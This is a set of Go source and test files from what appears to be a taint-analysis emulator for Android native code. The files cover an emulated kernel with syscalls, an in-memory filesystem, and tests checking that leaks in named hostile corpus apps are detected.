		t.Errorf("raw call count = %d, want %d (throttling must not lose the tally)", m.Calls, want)
	}
	if m.UniqueBoundaries != 3 {
		t.Errorf("boundaries = %d, want 3 (discovery survives truncation)", m.UniqueBoundaries)
	}
	// Throttled cost is O(boundaries * log calls): far below one event per
	// call even before the budget clips it.
	throttledAttempts := uint64(m.Events) + m.Dropped
	if throttledAttempts >= 1000 {
		t.Errorf("throttled observer attempted %d events for %d calls", throttledAttempts, m.Calls)
	}

	un := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
		Budget: testBudget, FlowLog: true, Surface: core.SurfaceUnthrottled})
	um := un.Final.Result.Surface
	if um == nil || !um.Truncated {
		t.Fatalf("unthrottled map = %+v, want truncated", um)
	}
	unAttempts := uint64(um.Events) + um.Dropped
	if unAttempts < m.Calls {
		t.Errorf("unthrottled observer attempted %d events, want >= one per call (%d)", unAttempts, m.Calls)
	}
	if unAttempts < 100*throttledAttempts {
		t.Errorf("flood resistance margin too small: unthrottled %d vs throttled %d attempts",
			unAttempts, throttledAttempts)
	}

	// The flood changes observer cost only — verdict and flow log are
	// identical with the observer off entirely.
	off := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
		Budget: testBudget, FlowLog: true, Surface: core.SurfaceOff})
	if off.Final.Result.Surface != nil {
		t.Error("SurfaceOff run still produced a map")
	}
	if joinLines(off) != joinLines(r) || off.Verdict() != r.Verdict() {
		t.Error("observer ablation changed the flow log or verdict")
	}
}

// TestPinswapVoidsStalePins: after the mid-run RegisterNatives swap, every
// clean-pin derived from the pre-swap binding is voided (diagnostic logged,
// count reported), and the leak is caught under every static level and both
// fusion settings.
func TestPinswapVoidsStalePins(t *testing.T) {
	app, ok := apps.ByName("hostile-pinswap")
	if !ok {
		t.Fatal("hostile-pinswap missing")
	}
	for _, lvl := range []static.Level{static.Off, static.LintOnly, static.PinLevel} {
		for _, fuse := range []core.FuseMode{core.FuseOn, core.FuseOff} {
			r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
				Budget: testBudget, FlowLog: true, Static: lvl, Fuse: fuse})
			if r.Verdict() != core.VerdictLeak {
				t.Errorf("static=%d fuse=%d: verdict = %v, want leak (chain %s)",
					lvl, fuse, r.Verdict(), r.ChainString())
				continue
			}
			res := r.Final.Result
			sawVoid := false
			for _, line := range res.LogLines {
				if len(line) >= len("StaticPinVoid") && line[:len("StaticPinVoid")] == "StaticPinVoid" {
					sawVoid = true
					break
				}
			}
			if !sawVoid {
				t.Errorf("static=%d fuse=%d: no StaticPinVoid diagnostic in the flow log", lvl, fuse)
			}
			if lvl == static.PinLevel {
				if res.PinsVoided == 0 {
					t.Errorf("fuse=%d: PinsVoided = 0, want stale clean-pins voided", fuse)
				}
			} else if res.PinsVoided != 0 {
				t.Errorf("static=%d fuse=%d: PinsVoided = %d with no pins installed", lvl, fuse, res.PinsVoided)
			}
		}
	}
}

// TestSmcCodeWriteObserved: the self-modifying app's store into live native
// code shows up in the surface map (code-write counter and touched pages),
// alongside the dynamic re-registration of the swapped boundary.
func TestSmcCodeWriteObserved(t *testing.T) {
	app, ok := apps.ByName("hostile-smc")
	if !ok {
		t.Fatal("hostile-smc missing")
	}
	r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{Budget: testBudget, FlowLog: true})
	if r.Verdict() != core.VerdictLeak {
		t.Fatalf("verdict = %v, want leak (chain %s)", r.Verdict(), r.ChainString())
	}
	m := r.Final.Result.Surface
	if m == nil {
		t.Fatal("no surface map")
	}
	if m.CodeWrites == 0 || m.CodePages == 0 {
		t.Errorf("code writes = %d over %d pages, want the SMC store observed", m.CodeWrites, m.CodePages)
	}
	dynamic := false
	for _, b := range m.Boundaries {
		if b.Dynamic {
			dynamic = true
		}
	}
	if !dynamic {
		t.Error("no boundary marked dynamic after the RegisterNatives swap")
	}
}

// TestReflectDispatchObserved: the reflection leaker's hidden dispatch is
// counted on the boundary map even though the dex call graph never names it.
func TestReflectDispatchObserved(t *testing.T) {
	app, ok := apps.ByName("hostile-reflect")
	if !ok {
		t.Fatal("hostile-reflect missing")
	}
	r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{Budget: testBudget, FlowLog: true})
	if r.Verdict() != core.VerdictLeak {
		t.Fatalf("verdict = %v, want leak (chain %s)", r.Verdict(), r.ChainString())
	}
	m := r.Final.Result.Surface
	if m == nil {
		t.Fatal("no surface map")
	}
	var reflects uint64
	for _, b := range m.Boundaries {
		reflects += b.ReflectCalls
	}
	if reflects == 0 {
		t.Error("no reflection-driven dispatch recorded in the surface map")
	}
}

// surfaceBytes extracts an app report's canonical surface-map encoding.
func surfaceBytes(t *testing.T, rep core.AppReport) string {
	t.Helper()
	m := rep.Final.Result.Surface
	if m == nil {
		t.Fatal("report carries no surface map")
	}
	return string(m.Bytes())
}

func joinLines(rep core.AppReport) string {
	return strings.Join(rep.Final.Result.LogLines, "\n")
}

// TestSurfaceMapFuseParity: fused and unfused execution discover the same
// boundaries with the same counts, byte for byte, for every corpus app.
func TestSurfaceMapFuseParity(t *testing.T) {
	for _, app := range apps.AllApps() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			on := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{Budget: testBudget, Fuse: core.FuseOn})
			off := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{Budget: testBudget, Fuse: core.FuseOff})
			if got, want := surfaceBytes(t, off), surfaceBytes(t, on); got != want {
				t.Errorf("surface map diverges across fusion:\nfused:   %s\nunfused: %s", want, got)
			}
		})
	}
}

// TestSurfaceMapSnapshotParity: fork-server (snapshot restore) runs emit the
// same surface map as fresh-System runs for every corpus app.
func TestSurfaceMapSnapshotParity(t *testing.T) {
	runner, err := core.NewRunner()
	if err != nil {
		t.Fatal(err)
	}
	for _, app := range apps.AllApps() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			fresh := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{Budget: testBudget})
			warm := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{Budget: testBudget, Runner: runner})
			if got, want := surfaceBytes(t, warm), surfaceBytes(t, fresh); got != want {
				t.Errorf("surface map diverges across snapshot restore:\nfresh: %s\nwarm:  %s", want, got)
			}
		})
	}
}

// TestSurfaceMapWorkerInvariance: RunStudyParallel emits identical per-app
// maps for any worker count.
func TestSurfaceMapWorkerInvariance(t *testing.T) {
	base := apps.RunStudyParallel(apps.StudyOptions{Budget: testBudget}, 1)
	wide := apps.RunStudyParallel(apps.StudyOptions{Budget: testBudget, Snapshot: true}, 3)
	if len(base.Rows) != len(wide.Rows) {
		t.Fatalf("row counts differ: %d vs %d", len(base.Rows), len(wide.Rows))
	}
	for i := range base.Rows {
		name := base.Rows[i].App.Name
		if got, want := surfaceBytes(t, wide.Rows[i].Report), surfaceBytes(t, base.Rows[i].Report); got != want {
			t.Errorf("%s: surface map depends on worker count:\n1 worker:  %s\n3 workers: %s", name, want, got)
		}
	}
}

// TestSurfaceMapServiceReplay is the warm-replay fix proof: a second service
// sweep over an identical corpus short-circuits entirely from verdict
// records, emits byte-identical surface maps — and its runners observe zero
// live JNI crossings, so the maps demonstrably came from the persisted
// records, not from re-execution.
func TestSurfaceMapServiceReplay(t *testing.T) {
	store, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	opts := apps.StudyOptions{Budget: testBudget, FlowLog: true, Cache: store}

	cold, coldStats, err := apps.RunStudyService(opts, 2)
	if err != nil {
		t.Fatal(err)
	}
	if coldStats.Runner.JNICrossings == 0 {
		t.Fatal("cold sweep observed no JNI crossings; the counter-assert below would be vacuous")
	}

	warm, warmStats, err := apps.RunStudyService(opts, 2)
	if err != nil {
		t.Fatal(err)
	}
	if warmStats.VerdictHits != len(warm.Rows) {
		t.Fatalf("warm sweep verdict hits = %d, want %d (full short-circuit)",
			warmStats.VerdictHits, len(warm.Rows))
	}
	// Counter-assert: the warm sweep never entered guest code, so every map
	// it returned was replayed from the verdict record.
	if warmStats.Runner.JNICrossings != 0 {
		t.Errorf("warm sweep observed %d live JNI crossings, want 0", warmStats.Runner.JNICrossings)
	}
	for i := range cold.Rows {
		name := cold.Rows[i].App.Name
		if got, want := surfaceBytes(t, warm.Rows[i].Report), surfaceBytes(t, cold.Rows[i].Report); got != want {
			t.Errorf("%s: replayed surface map differs from computed:\ncomputed: %s\nreplayed: %s", name, want, got)
		}
		if got, want := joinLines(warm.Rows[i].Report), joinLines(cold.Rows[i].Report); got != want {
			t.Errorf("%s: replayed flow log differs from computed", name)
		}
	}
}

// TestSurfaceInjectionMatrixRow: the surface.overflow site under service
// caching — an injected budget exhaustion during the cold run persists a
// truncated-but-flagged map, and the warm replay faithfully reproduces the
// truncation flag instead of silently "repairing" it.
func TestSurfaceInjectionMatrixRow(t *testing.T) {
	defer fault.Reset()
	fault.Reset()
	store, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	app, _ := apps.ByName("case1")

	svc, err := service.New(service.Options{
		Workers: 1,
		Cache:   store,
		Analyze: core.AnalyzeOptions{Budget: testBudget, FlowLog: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := fault.Arm(surface.SiteOverflow, fault.BudgetExceeded); err != nil {
		t.Fatal(err)
	}
	cold := <-svc.Submit(app.Spec())
	fault.DisarmAll()
	warm := <-svc.Submit(app.Spec())
	svc.Close()

	if cold.Err != nil || warm.Err != nil {
		t.Fatalf("submission errors: cold %v warm %v", cold.Err, warm.Err)
	}
	if warm.Source != "verdict-cache" {
		t.Fatalf("warm source = %q, want verdict-cache", warm.Source)
	}
	cm, wm := cold.Report.Final.Result.Surface, warm.Report.Final.Result.Surface
	if cm == nil || !cm.Truncated {
		t.Fatalf("cold map = %+v, want truncated under injection", cm)
	}
	if wm == nil || !wm.Truncated {
		t.Fatalf("warm replay lost the truncation flag: %+v", wm)
	}
	if string(wm.Bytes()) != string(cm.Bytes()) {
		t.Errorf("replayed map differs from computed:\ncomputed: %s\nreplayed: %s", cm.Bytes(), wm.Bytes())
	}
	if cold.Report.Verdict() != core.VerdictLeak || warm.Report.Verdict() != core.VerdictLeak {
		t.Errorf("verdicts = %v/%v, want leak/leak (injection must stay absorbed)",
			cold.Report.Verdict(), warm.Report.Verdict())
	}
	if joinLines(cold.Report) != joinLines(warm.Report) {
		t.Error("flow logs diverge between injected computed run and warm replay")
	}
}
