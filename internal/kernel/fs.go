package kernel

import (
	"sort"

	"repro/internal/mem"
)

// File is an in-memory file.
type File struct {
	Path string
	Data []byte
}

// FS is the in-memory filesystem. Paths are flat strings ("/sdcard/CONTACTS").
type FS struct {
	files map[string]*File
}

// NewFS returns an empty filesystem.
func NewFS() *FS { return &FS{files: make(map[string]*File)} }

func (fs *FS) create(path string) *File {
	f := &File{Path: path}
	fs.files[path] = f
	return f
}

// Create makes (or truncates) a file and returns it.
func (fs *FS) Create(path string) *File {
	f := fs.create(path)
	return f
}

// WriteFile creates path with the given contents.
func (fs *FS) WriteFile(path string, data []byte) {
	f := fs.create(path)
	f.Data = append([]byte(nil), data...)
}

// ReadFile returns the contents of path.
func (fs *FS) ReadFile(path string) ([]byte, bool) {
	f, ok := fs.files[path]
	if !ok {
		return nil, false
	}
	return f.Data, true
}

// Exists reports whether path exists.
func (fs *FS) Exists(path string) bool {
	_, ok := fs.files[path]
	return ok
}

// Paths lists all file paths, sorted.
func (fs *FS) Paths() []string {
	out := make([]string, 0, len(fs.files))
	for p := range fs.files {
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// ReadAt copies up to n bytes from offset off into guest memory at dst,
// returning the number of bytes copied.
func (f *File) ReadAt(off, n uint32, m *mem.Memory, dst uint32) uint32 {
	if off >= uint32(len(f.Data)) {
		return 0
	}
	end := off + n
	if end > uint32(len(f.Data)) {
		end = uint32(len(f.Data))
	}
	m.WriteBytes(dst, f.Data[off:end])
	return end - off
}

// WriteAt stores data at offset off, growing the file as needed.
func (f *File) WriteAt(off uint32, data []byte) {
	end := int(off) + len(data)
	if end > len(f.Data) {
		grown := make([]byte, end)
		copy(grown, f.Data)
		f.Data = grown
	}
	copy(f.Data[off:], data)
}
