// Package kernel emulates the thin slice of Linux the paper's system needs:
// processes with memory maps (serialized into guest memory so that the
// OS-level view reconstructor can parse them from raw bytes, as DroidScope-
// style virtual machine introspection does), an in-memory filesystem, a
// recording network stack, and the SVC syscall interface.
package kernel

import (
	"fmt"

	"repro/internal/arm"
	"repro/internal/mem"
)

// Guest serialization layout for VMI (all fields little-endian words):
//
//	task:  +0 pid   +4 next_task  +8 mm_ptr  +12..+27 comm[16]
//	mm:    +0 first_vma
//	vma:   +0 start +4 end  +8 flags  +12 next_vma  +16 name_ptr (cstring)
//
// flags bit0 = r, bit1 = w, bit2 = x.
const (
	taskStructSize = 28
	mmStructSize   = 4
	vmaStructSize  = 20
	nameBufSize    = 64
)

// VMA is one mapping in a task's memory map.
type VMA struct {
	Start uint32
	End   uint32
	Perms string // "rwx" subset
	Name  string
}

// Task is an emulated process.
type Task struct {
	PID  uint32
	Comm string
	VMAs []VMA

	guestAddr uint32
	fds       map[int32]*fd
	nextFD    int32
	brk       uint32
}

// Kernel owns tasks, the filesystem, the network log, and syscall dispatch.
type Kernel struct {
	Mem   *mem.Memory
	FS    *FS
	Net   *Net
	tasks []*Task

	// InitTaskAddr is the guest address of the first task struct — the only
	// root the OS-level view reconstructor is given (§V-F).
	InitTaskAddr uint32

	serialCursor uint32
	nextPID      uint32

	// Exited reports the code passed to SysExit, if any.
	Exited   bool
	ExitCode int32
}

// New returns a kernel bound to guest memory m.
func New(m *mem.Memory) *Kernel {
	return &Kernel{
		Mem:          m,
		FS:           NewFS(),
		Net:          NewNet(),
		serialCursor: KernBase,
		nextPID:      100,
	}
}

// NewTask creates a process, serializes its task struct into guest memory,
// and links it on the guest task list.
func (k *Kernel) NewTask(comm string) *Task {
	t := &Task{
		PID:    k.nextPID,
		Comm:   comm,
		fds:    make(map[int32]*fd),
		nextFD: 3, // 0,1,2 reserved
		brk:    HeapBase,
	}
	k.nextPID++
	t.guestAddr = k.alloc(taskStructSize)
	k.Mem.Write32(t.guestAddr, t.PID)
	k.Mem.Write32(t.guestAddr+4, 0) // next
	k.Mem.Write32(t.guestAddr+8, 0) // mm
	commBytes := make([]byte, 16)
	copy(commBytes, comm)
	k.Mem.WriteBytes(t.guestAddr+12, commBytes)

	if len(k.tasks) == 0 {
		k.InitTaskAddr = t.guestAddr
	} else {
		prev := k.tasks[len(k.tasks)-1]
		k.Mem.Write32(prev.guestAddr+4, t.guestAddr)
	}
	k.tasks = append(k.tasks, t)

	// stdout / stderr capture files
	t.fds[1] = &fd{file: k.FS.create("/proc/" + comm + "/stdout")}
	t.fds[2] = &fd{file: k.FS.create("/proc/" + comm + "/stderr")}
	return t
}

// Tasks returns the live task list.
func (k *Kernel) Tasks() []*Task { return k.tasks }

// alloc carves space from the kernel-structures region.
func (k *Kernel) alloc(n uint32) uint32 {
	addr := k.serialCursor
	k.serialCursor += (n + 3) &^ 3
	return addr
}

func permFlags(perms string) uint32 {
	var f uint32
	for _, c := range perms {
		switch c {
		case 'r':
			f |= 1
		case 'w':
			f |= 2
		case 'x':
			f |= 4
		}
	}
	return f
}

// AddVMA records a mapping in the task's memory map and mirrors it into the
// guest-serialized VMA list.
func (k *Kernel) AddVMA(t *Task, v VMA) {
	t.VMAs = append(t.VMAs, v)

	vmaAddr := k.alloc(vmaStructSize)
	nameAddr := k.alloc(nameBufSize)
	k.Mem.WriteCString(nameAddr, v.Name)
	k.Mem.Write32(vmaAddr, v.Start)
	k.Mem.Write32(vmaAddr+4, v.End)
	k.Mem.Write32(vmaAddr+8, permFlags(v.Perms))
	k.Mem.Write32(vmaAddr+12, 0)
	k.Mem.Write32(vmaAddr+16, nameAddr)

	mmPtr := k.Mem.Read32(t.guestAddr + 8)
	if mmPtr == 0 {
		mmPtr = k.alloc(mmStructSize)
		k.Mem.Write32(t.guestAddr+8, mmPtr)
		k.Mem.Write32(mmPtr, vmaAddr)
		return
	}
	// Append at the tail of the guest VMA list.
	cur := k.Mem.Read32(mmPtr)
	if cur == 0 {
		k.Mem.Write32(mmPtr, vmaAddr)
		return
	}
	for {
		next := k.Mem.Read32(cur + 12)
		if next == 0 {
			break
		}
		cur = next
	}
	k.Mem.Write32(cur+12, vmaAddr)
}

// FindVMA returns the mapping containing addr in task t.
func (t *Task) FindVMA(addr uint32) (VMA, bool) {
	for _, v := range t.VMAs {
		if addr >= v.Start && addr < v.End {
			return v, true
		}
	}
	return VMA{}, false
}

type fd struct {
	file   *File
	offset uint32
	sock   *Socket
}

// Syscall dispatches an SVC from the CPU. Arguments follow the AAPCS
// (R0–R3); the result is returned in R0 (0xffffffff on error).
func (k *Kernel) Syscall(t *Task, c *arm.CPU, num uint32) error {
	const errRet = 0xffffffff
	switch num {
	case SysExit:
		k.Exited = true
		k.ExitCode = int32(c.R[0])
		c.Halted = true
	case SysOpen:
		path := k.Mem.ReadCString(c.R[0], 0)
		n, err := k.openFD(t, path, c.R[1])
		if err != nil {
			c.R[0] = errRet
			return nil
		}
		c.R[0] = uint32(n)
	case SysClose:
		delete(t.fds, int32(c.R[0]))
		c.R[0] = 0
	case SysRead:
		f, ok := t.fds[int32(c.R[0])]
		if !ok || f.file == nil {
			c.R[0] = errRet
			return nil
		}
		n := f.file.ReadAt(f.offset, c.R[2], k.Mem, c.R[1])
		f.offset += n
		c.R[0] = n
	case SysWrite:
		f, ok := t.fds[int32(c.R[0])]
		if !ok || f.file == nil {
			c.R[0] = errRet
			return nil
		}
		data := k.Mem.ReadBytes(c.R[1], c.R[2])
		f.file.WriteAt(f.offset, data)
		f.offset += uint32(len(data))
		c.R[0] = c.R[2]
	case SysLseek:
		f, ok := t.fds[int32(c.R[0])]
		if !ok || f.file == nil {
			c.R[0] = errRet
			return nil
		}
		off := int32(c.R[1])
		switch c.R[2] {
		case SeekSet:
			f.offset = uint32(off)
		case SeekCur:
			f.offset = uint32(int32(f.offset) + off)
		case SeekEnd:
			f.offset = uint32(int32(len(f.file.Data)) + off)
		}
		c.R[0] = f.offset
	case SysBrk:
		if c.R[0] == 0 {
			c.R[0] = t.brk
			return nil
		}
		if c.R[0] >= HeapBase && c.R[0] < HeapLimit {
			t.brk = c.R[0]
			c.R[0] = t.brk
		} else {
			c.R[0] = errRet
		}
	case SysMmap:
		// Anonymous mapping carved from the top of the heap range.
		length := (c.R[1] + 0xfff) &^ 0xfff
		if t.brk+length >= HeapLimit {
			c.R[0] = errRet
			return nil
		}
		addr := t.brk
		t.brk += length
		c.R[0] = addr
	case SysSocket:
		s := k.Net.NewSocket()
		n := t.nextFD
		t.nextFD++
		t.fds[n] = &fd{sock: s}
		c.R[0] = uint32(n)
	case SysConnect:
		f, ok := t.fds[int32(c.R[0])]
		if !ok || f.sock == nil {
			c.R[0] = errRet
			return nil
		}
		host := k.Mem.ReadCString(c.R[1], 0)
		f.sock.Connect(host, uint16(c.R[2]))
		c.R[0] = 0
	case SysSend:
		f, ok := t.fds[int32(c.R[0])]
		if !ok || f.sock == nil {
			c.R[0] = errRet
			return nil
		}
		data := k.Mem.ReadBytes(c.R[1], c.R[2])
		k.Net.Send(f.sock, data)
		c.R[0] = c.R[2]
	case SysSendto:
		f, ok := t.fds[int32(c.R[0])]
		if !ok || f.sock == nil {
			c.R[0] = errRet
			return nil
		}
		data := k.Mem.ReadBytes(c.R[1], c.R[2])
		host := k.Mem.ReadCString(c.R[3], 0)
		k.Net.SendTo(f.sock, host, data)
		c.R[0] = c.R[2]
	case SysRecv:
		f, ok := t.fds[int32(c.R[0])]
		if !ok || f.sock == nil {
			c.R[0] = errRet
			return nil
		}
		data := f.sock.Recv(int(c.R[2]))
		k.Mem.WriteBytes(c.R[1], data)
		c.R[0] = uint32(len(data))
	case SysGettid:
		c.R[0] = t.PID
	case SysStat:
		path := k.Mem.ReadCString(c.R[0], 0)
		if _, ok := k.FS.files[path]; ok {
			c.R[0] = 0
		} else {
			c.R[0] = errRet
		}
	case SysMkdir:
		c.R[0] = 0
	case SysRename:
		from := k.Mem.ReadCString(c.R[0], 0)
		to := k.Mem.ReadCString(c.R[1], 0)
		if f, ok := k.FS.files[from]; ok {
			delete(k.FS.files, from)
			k.FS.files[to] = f
			c.R[0] = 0
		} else {
			c.R[0] = errRet
		}
	case SysUnlink:
		path := k.Mem.ReadCString(c.R[0], 0)
		delete(k.FS.files, path)
		c.R[0] = 0
	default:
		return fmt.Errorf("kernel: unknown syscall %d", num)
	}
	return nil
}

func (k *Kernel) openFD(t *Task, path string, flags uint32) (int32, error) {
	f, ok := k.FS.files[path]
	if !ok {
		if flags&OCreat == 0 {
			return -1, fmt.Errorf("kernel: %s: no such file", path)
		}
		f = k.FS.create(path)
	}
	if flags&OTrunc != 0 {
		f.Data = nil
	}
	n := t.nextFD
	t.nextFD++
	e := &fd{file: f}
	if flags&OAppend != 0 {
		e.offset = uint32(len(f.Data))
	}
	t.fds[n] = e
	return n, nil
}

// Open exposes openFD to host-implemented libc (fopen).
func (k *Kernel) Open(t *Task, path string, flags uint32) (int32, error) {
	return k.openFD(t, path, flags)
}

// FDFile returns the file behind a descriptor, for host-implemented stdio.
func (k *Kernel) FDFile(t *Task, n int32) (*File, uint32, bool) {
	f, ok := t.fds[n]
	if !ok || f.file == nil {
		return nil, 0, false
	}
	return f.file, f.offset, true
}

// FDAdvance moves a descriptor's offset (host-implemented stdio bookkeeping).
func (k *Kernel) FDAdvance(t *Task, n int32, delta uint32) {
	if f, ok := t.fds[n]; ok {
		f.offset += delta
	}
}

// FDClose closes a descriptor.
func (k *Kernel) FDClose(t *Task, n int32) { delete(t.fds, n) }

// FDDesc describes a descriptor for leak reports: the file path or the
// connected host of a socket.
func (k *Kernel) FDDesc(t *Task, n int32) string {
	f, ok := t.fds[n]
	if !ok {
		return fmt.Sprintf("fd:%d", n)
	}
	if f.file != nil {
		return f.file.Path
	}
	if f.sock != nil {
		if f.sock.Host != "" {
			return f.sock.Host
		}
		return fmt.Sprintf("socket:%d", f.sock.ID)
	}
	return fmt.Sprintf("fd:%d", n)
}

// FDSocket returns the socket behind a descriptor, if any.
func (k *Kernel) FDSocket(t *Task, n int32) (*Socket, bool) {
	f, ok := t.fds[n]
	if !ok || f.sock == nil {
		return nil, false
	}
	return f.sock, true
}
