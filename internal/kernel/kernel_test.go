package kernel

import (
	"testing"

	"repro/internal/arm"
	"repro/internal/mem"
)

func newKernel(t *testing.T) (*Kernel, *Task, *arm.CPU) {
	t.Helper()
	m := mem.New()
	k := New(m)
	task := k.NewTask("testproc")
	c := arm.New(m)
	c.R[arm.SP] = NativeStackTop
	c.SVC = func(c *arm.CPU, num uint32) error { return k.Syscall(task, c, num) }
	return k, task, c
}

func sys(t *testing.T, k *Kernel, task *Task, c *arm.CPU, num uint32, args ...uint32) uint32 {
	t.Helper()
	for i, a := range args {
		c.R[i] = a
	}
	if err := k.Syscall(task, c, num); err != nil {
		t.Fatalf("syscall %d: %v", num, err)
	}
	return c.R[0]
}

func TestFileSyscallRoundTrip(t *testing.T) {
	k, task, c := newKernel(t)
	path := uint32(0x1000)
	buf := uint32(0x2000)
	k.Mem.WriteCString(path, "/data/test")
	k.Mem.WriteBytes(buf, []byte("hello kernel"))

	fd := sys(t, k, task, c, SysOpen, path, OWronly|OCreat)
	if int32(fd) < 0 {
		t.Fatal("open failed")
	}
	if n := sys(t, k, task, c, SysWrite, fd, buf, 12); n != 12 {
		t.Fatalf("write = %d", n)
	}
	sys(t, k, task, c, SysClose, fd)

	fd = sys(t, k, task, c, SysOpen, path, ORdonly)
	out := uint32(0x3000)
	if n := sys(t, k, task, c, SysRead, fd, out, 64); n != 12 {
		t.Fatalf("read = %d", n)
	}
	if got := string(k.Mem.ReadBytes(out, 12)); got != "hello kernel" {
		t.Errorf("read data = %q", got)
	}
}

func TestOpenMissingWithoutCreate(t *testing.T) {
	k, task, c := newKernel(t)
	path := uint32(0x1000)
	k.Mem.WriteCString(path, "/missing")
	if fd := sys(t, k, task, c, SysOpen, path, ORdonly); fd != 0xffffffff {
		t.Errorf("open missing = %#x, want -1", fd)
	}
}

func TestLseek(t *testing.T) {
	k, task, c := newKernel(t)
	k.FS.WriteFile("/d", []byte("0123456789"))
	path := uint32(0x1000)
	k.Mem.WriteCString(path, "/d")
	fd := sys(t, k, task, c, SysOpen, path, ORdonly)
	if off := sys(t, k, task, c, SysLseek, fd, 4, SeekSet); off != 4 {
		t.Errorf("seek set = %d", off)
	}
	buf := uint32(0x2000)
	sys(t, k, task, c, SysRead, fd, buf, 2)
	if got := string(k.Mem.ReadBytes(buf, 2)); got != "45" {
		t.Errorf("after seek read %q", got)
	}
	if off := sys(t, k, task, c, SysLseek, fd, ^uint32(1), SeekEnd); off != 8 { // -2 from end
		t.Errorf("seek end = %d", off)
	}
}

func TestSocketSendRecv(t *testing.T) {
	k, task, c := newKernel(t)
	host := uint32(0x1000)
	msg := uint32(0x2000)
	k.Mem.WriteCString(host, "example.org")
	k.Mem.WriteBytes(msg, []byte("ping"))

	sock := sys(t, k, task, c, SysSocket, 2, 1, 0)
	sys(t, k, task, c, SysConnect, sock, host, 443)
	if n := sys(t, k, task, c, SysSend, sock, msg, 4); n != 4 {
		t.Fatalf("send = %d", n)
	}
	if got := k.Net.SentTo("example.org"); len(got) != 1 || string(got[0]) != "ping" {
		t.Fatalf("net log = %q", got)
	}

	// Feed a reply and receive it.
	s, ok := k.FDSocket(task, int32(sock))
	if !ok {
		t.Fatal("socket lookup failed")
	}
	s.Feed([]byte("pong"))
	buf := uint32(0x3000)
	if n := sys(t, k, task, c, SysRecv, sock, buf, 16); n != 4 {
		t.Fatalf("recv = %d", n)
	}
	if got := string(k.Mem.ReadBytes(buf, 4)); got != "pong" {
		t.Errorf("recv data = %q", got)
	}
}

func TestSendtoExplicitDest(t *testing.T) {
	k, task, c := newKernel(t)
	host := uint32(0x1000)
	msg := uint32(0x2000)
	k.Mem.WriteCString(host, "udp.example.net")
	k.Mem.WriteBytes(msg, []byte("dgram"))
	sock := sys(t, k, task, c, SysSocket, 2, 2, 0)
	if n := sys(t, k, task, c, SysSendto, sock, msg, 5, host); n != 5 {
		t.Fatalf("sendto = %d", n)
	}
	if got := k.Net.SentTo("udp.example.net"); len(got) != 1 {
		t.Fatalf("net log = %q", got)
	}
}

func TestBrkAndMmap(t *testing.T) {
	k, task, c := newKernel(t)
	cur := sys(t, k, task, c, SysBrk, 0)
	if cur != HeapBase {
		t.Errorf("initial brk = %#x", cur)
	}
	if got := sys(t, k, task, c, SysBrk, HeapBase+0x1000); got != HeapBase+0x1000 {
		t.Errorf("brk grow = %#x", got)
	}
	if got := sys(t, k, task, c, SysBrk, 0x100); got != 0xffffffff {
		t.Errorf("out-of-range brk accepted: %#x", got)
	}
	addr := sys(t, k, task, c, SysMmap, 0, 8192, 3, 0x22)
	if addr == 0xffffffff || addr%4096 != 0 {
		t.Errorf("mmap = %#x", addr)
	}
}

func TestExitHaltsCPU(t *testing.T) {
	k, task, c := newKernel(t)
	sys(t, k, task, c, SysExit, 7)
	if !k.Exited || k.ExitCode != 7 || !c.Halted {
		t.Errorf("exit state: %v %d halted=%v", k.Exited, k.ExitCode, c.Halted)
	}
}

func TestRenameUnlink(t *testing.T) {
	k, task, c := newKernel(t)
	k.FS.WriteFile("/a", []byte("x"))
	from, to := uint32(0x1000), uint32(0x1100)
	k.Mem.WriteCString(from, "/a")
	k.Mem.WriteCString(to, "/b")
	if got := sys(t, k, task, c, SysRename, from, to); got != 0 {
		t.Fatal("rename failed")
	}
	if k.FS.Exists("/a") || !k.FS.Exists("/b") {
		t.Error("rename did not move")
	}
	if got := sys(t, k, task, c, SysUnlink, to); got != 0 {
		t.Fatal("unlink failed")
	}
	if k.FS.Exists("/b") {
		t.Error("unlink did not remove")
	}
}

func TestGuestTaskSerialization(t *testing.T) {
	m := mem.New()
	k := New(m)
	t1 := k.NewTask("first")
	t2 := k.NewTask("second")
	k.AddVMA(t1, VMA{Start: 0x1000, End: 0x2000, Perms: "r-x", Name: "libx.so"})
	k.AddVMA(t1, VMA{Start: 0x3000, End: 0x4000, Perms: "rw-", Name: "heap"})

	// Walk the raw guest structures by hand.
	head := k.InitTaskAddr
	if m.Read32(head) != t1.PID {
		t.Errorf("pid = %d", m.Read32(head))
	}
	if got := m.ReadCString(head+12, 16); got != "first" {
		t.Errorf("comm = %q", got)
	}
	next := m.Read32(head + 4)
	if m.Read32(next) != t2.PID {
		t.Error("task list link broken")
	}
	mm := m.Read32(head + 8)
	vma1 := m.Read32(mm)
	if m.Read32(vma1) != 0x1000 || m.Read32(vma1+4) != 0x2000 {
		t.Error("first vma bounds wrong")
	}
	if m.Read32(vma1+8) != 5 { // r-x = bit0|bit2
		t.Errorf("flags = %d", m.Read32(vma1+8))
	}
	vma2 := m.Read32(vma1 + 12)
	if got := m.ReadCString(m.Read32(vma2+16), 64); got != "heap" {
		t.Errorf("second vma name = %q", got)
	}
	if m.Read32(vma2+12) != 0 {
		t.Error("vma list must terminate")
	}
}

func TestFDDesc(t *testing.T) {
	k, task, c := newKernel(t)
	if got := k.FDDesc(task, 1); got != "/proc/testproc/stdout" {
		t.Errorf("stdout desc = %q", got)
	}
	host := uint32(0x1000)
	k.Mem.WriteCString(host, "h.example")
	sock := sys(t, k, task, c, SysSocket, 2, 1, 0)
	sys(t, k, task, c, SysConnect, sock, host, 80)
	if got := k.FDDesc(task, int32(sock)); got != "h.example" {
		t.Errorf("socket desc = %q", got)
	}
	if got := k.FDDesc(task, 99); got != "fd:99" {
		t.Errorf("bogus fd desc = %q", got)
	}
}
