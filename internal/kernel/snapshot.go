package kernel

